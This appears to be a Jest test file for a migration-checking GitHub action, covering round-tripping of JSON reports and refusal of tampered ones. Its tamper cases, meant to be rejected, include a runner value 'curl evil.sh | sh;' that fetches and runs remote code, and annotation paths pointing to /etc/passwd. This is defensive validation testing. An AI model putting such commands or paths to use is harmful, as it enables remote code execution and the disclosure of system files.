/**
 * report.json read back for `mode: publish`: a report round-trips into the same
 * markdown, and a file that is not ours, of another version, or with a field of
 * the wrong type or value is refused with the field named.
 */
import { readJsonReport, ReportFormatError } from '../../src/report/json-read.js'
import { JSON_REPORT_FORMAT, toJson } from '../../src/report/json.js'
import { renderMarkdown } from '../../src/report/markdown.js'
import { RUNNERS, type CheckResult } from '../../src/model/result.js'
import {
  ENGINE_MODES,
  HAZARD_CLASSES,
  SENT_AS,
  STATEMENT_STATUSES,
  TRANSACTION_KINDS,
  type MigrationReview
} from '../../src/model/review.js'
import { designDocResult, failedMigrationResult, passingResult } from './fixtures.js'

const REPO = '/work/repo'
const HEAD = 'a'.repeat(40)

/** A review in the model's shape (typed: the compiler holds it to the model). */
function review(): MigrationReview {
  const file = 'prisma/migrations/20250701000000_add_index/migration.sql'
  return {
    safety: 'warn',
    engine: 'transaction',
    engineName: "Prisma 6.19.3's native schema engine",
    rowsPerTable: 5000,
    migrations: [
      {
        name: '20250701000000_add_index',
        file,
        durationMs: 12,
        transactional: true,
        sent: 'whole',
        statements: [
          {
            index: 0,
            line: 2,
            endLine: 2,
            summary: 'CREATE INDEX "users_name_idx" ON "users"("name")',
            status: 'measured',
            transaction: { kind: 'implicit', fromLine: 2 },
            durationMs: 11,
            holdMs: 11,
            locks: [{ table: 'users', mode: 'ShareLock', blocks: 'writes', newTable: false, rows: 5000 }],
            rewrites: [],
            scans: [],
            indexBuilds: [{ table: 'users', rows: 5000 }],
            hazards: ['blocking-lock']
          }
        ]
      }
    ],
    changes: [
      {
        table: 'users',
        kind: 'index',
        change: 'added',
        object: 'users_name_idx',
        description: 'adds index `users_name_idx` on (name)',
        location: { file, line: 2 },
        migration: '20250701000000_add_index'
      }
    ],
    findings: [
      {
        hazard: 'blocking-lock',
        severity: 'warning',
        title: 'Index build blocks writes to users',
        message: 'CREATE INDEX holds a SHARE lock on users (5,000 rows) while it builds.',
        saferPattern: 'CREATE INDEX CONCURRENTLY in a migration of its own',
        location: { file, line: 2 },
        migration: '20250701000000_add_index',
        statementIndex: 0
      }
    ]
  }
}

/** The report a run writes for `result` (paths as the action writes them). */
function written(result: CheckResult): string {
  const withPath = result.fixSql
    ? { ...result, fixSqlPath: `${REPO}/migrate-seed-check-report/20250701120000_fix_drift/migration.sql` }
    : result
  return JSON.stringify(toJson(withPath, { repoRoot: REPO, pullRequest: { number: 7, headSha: HEAD } }))
}

/** What the action shows: the fix migration's path relative to the repository. */
function shown(result: CheckResult): CheckResult {
  return result.fixSql
    ? { ...result, fixSqlPath: 'migrate-seed-check-report/20250701120000_fix_drift/migration.sql' }
    : result
}

function refusal(json: unknown): string {
  try {
    readJsonReport(typeof json === 'string' ? json : JSON.stringify(json))
  } catch (error) {
    expect(error).toBeInstanceOf(ReportFormatError)
    return (error as Error).message
  }
  throw new Error('the report was accepted')
}

describe('a report read back', () => {
  const cases: Array<[string, CheckResult]> = [
    ['the design doc drift', { ...designDocResult(), fixSql: 'ALTER TABLE "users" ADD COLUMN "x" TEXT;\n' }],
    ['a failed migration', failedMigrationResult()],
    ['a passing run with a migration review', { ...passingResult(), review: review() }]
  ]

  it.each(cases)('%s renders the same summary and comment as the run that wrote it', (_name, result) => {
    const { result: read, pullRequest } = readJsonReport(written(result))
    expect(pullRequest).toEqual({ number: 7, headSha: HEAD })
    for (const opts of [
      { maxLength: 1_000_000, summaryUrl: 'https://github.com/acme/shop/actions/runs/1' },
      { marker: '<!-- migrate-seed-check:. -->', maxLength: 60_000 }
    ])
      expect(renderMarkdown(read, opts)).toBe(renderMarkdown(shown(result), opts))
  })
})

test("a report read back keeps each stage's start and end on the run's clock", () => {
  const timed = designDocResult()
  timed.stages = timed.stages.map((stage, i) => ({ ...stage, startMs: i * 100, endMs: i * 100 + 50 }))
  const { result: read } = readJsonReport(written(timed))
  expect(read.stages.map((s) => [s.name, s.startMs, s.endMs])).toEqual(
    timed.stages.map((s) => [s.name, s.startMs, s.endMs])
  )
})

test('every value the model allows is read back: hazards, statement statuses, transactions, engines, runners', () => {
  for (const hazard of HAZARD_CLASSES)
    for (const status of STATEMENT_STATUSES)
      for (const kind of TRANSACTION_KINDS) {
        const r = review()
        const statement = r.migrations[0]!.statements[0]!
        statement.status = status
        statement.transaction = { kind, fromLine: 1 }
        statement.hazards = [hazard]
        r.findings[0]!.hazard = hazard
        const { result: read } = readJsonReport(written({ ...passingResult(), review: r }))
        expect(read.review?.findings[0]?.hazard).toBe(hazard)
        expect(read.review?.migrations[0]?.statements[0]).toMatchObject({ status, transaction: { kind } })
      }
  for (const engine of ENGINE_MODES)
    for (const sent of SENT_AS)
      for (const runner of RUNNERS) {
        const r = { ...review(), engine }
        r.migrations[0]!.sent = sent
        const { result: read } = readJsonReport(written({ ...passingResult(), runner, review: r }))
        expect([read.runner, read.review?.engine, read.review?.migrations[0]?.sent]).toEqual([
          runner,
          engine,
          sent
        ])
      }
})

describe('a report that is refused', () => {
  const good = (): Record<string, unknown> =>
    JSON.parse(written(designDocResult())) as Record<string, unknown>

  it('is not JSON', () => {
    expect(refusal('{"format": ')).toMatch(/not JSON/)
  })

  it('is not ours: no format marker, or another one', () => {
    const { format: _format, ...unmarked } = good()
    expect(refusal(unmarked)).toMatch(/not a migrate-seed-check report/)
    expect(refusal({ ...good(), format: 'eslint/report' })).toMatch(/not a migrate-seed-check report/)
    expect(refusal([1, 2])).toMatch(/not a migrate-seed-check report/)
  })

  it('has a version this action does not read', () => {
    expect(refusal({ ...good(), version: 2 })).toMatch(/version 2 is not one this action reads/)
    expect(refusal({ ...good(), version: '1' })).toMatch(/version "1"/)
  })

  it.each<[string, (report: Record<string, unknown>) => void, RegExp]>([
    ['a status outside the enum', (r) => (r.status = 'maybe'), /^status: /],
    [
      'a severity outside the enum',
      (r) => ((r.drift as Array<Record<string, unknown>>)[0]!.severity = 'fatal'),
      /^drift\.0\.severity: /
    ],
    [
      'a line that is not a number',
      (r) =>
        ((r.drift as Array<Record<string, unknown>>)[0]!.location = {
          file: 'prisma/schema.prisma',
          line: '56'
        }),
      /^drift\.0\.location\.line: /
    ],
    [
      'an annotation path outside the repository',
      (r) =>
        ((r.drift as Array<Record<string, unknown>>)[0]!.location = { file: '../../etc/passwd', line: 1 }),
      /^drift\.0\.location\.file: must be a path inside the repository/
    ],
    [
      'an absolute annotation path',
      (r) => ((r.problems as Array<Record<string, unknown>>)[0]!.location = { file: '/etc/passwd', line: 1 }),
      /^problems\.0\.location\.file: /
    ],
    [
      'a stage name we do not have',
      (r) => ((r.stages as Array<Record<string, unknown>>)[0]!.name = 'deploy'),
      /^stages\.0\.name: /
    ],
    ['a runner that would be a command', (r) => (r.runner = 'curl evil.sh | sh;'), /^runner: /],
    [
      'a pull request head that is no commit',
      (r) => (r.pullRequest = { number: 7, headSha: 'main' }),
      /^pullRequest\.headSha: /
    ],
    ['drift that is not a list', (r) => (r.drift = 'none'), /^drift: /],
    [
      'a stage that starts before the run',
      (r) => ((r.stages as Array<Record<string, unknown>>)[0]!.startMs = -5),
      /^stages\.0\.startMs: /
    ]
  ])('has %s', (_name, tamper, message) => {
    const report = good()
    tamper(report)
    expect(refusal(report)).toMatch(message)
  })
})

test('the format marker is written', () => {
  expect(toJson(passingResult()).format).toBe(JSON_REPORT_FORMAT)
})
